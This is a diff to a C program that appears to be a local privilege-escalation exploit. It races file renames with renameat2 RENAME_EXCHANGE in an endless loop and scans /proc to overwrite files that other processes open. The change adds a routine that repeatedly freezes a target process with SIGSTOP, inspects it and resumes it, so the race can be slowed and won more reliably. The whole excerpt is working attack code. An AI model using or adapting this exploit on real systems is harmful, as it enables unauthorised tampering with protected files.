@@ -92,6 +92,18 @@ static void peek(const char* pid, dev_t device) {
   }
 }
 
+// A new process is stopped for a look again and again, so that it moves in small steps; not for ever, or it gets nowhere.
+static void peek_slowly(const char* pid, dev_t device) {
+  static unsigned char looks[1 << 22];
+  const int number = atoi(pid);
+  if (looks[number] < 100) {
+    looks[number]++;
+    kill(number, SIGSTOP);
+    peek(pid, device);
+    kill(number, SIGCONT);
+  }
+}
+
 int main(int argc, char** argv) {
   if (argc == 4 && strcmp(argv[1], "swap") == 0) {
     for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE);
@@ -110,11 +122,7 @@ int main(int argc, char** argv) {
       if (inode != 0)
         overwrite(entry->d_name, device, inode);
       else
-        for (int i = 0; i < 20; i++) {
-          kill(pid, SIGSTOP);
-          peek(entry->d_name, device);
-          kill(pid, SIGCONT);
-        }
+        peek_slowly(entry->d_name, device);
     }
     closedir(proc);
   }
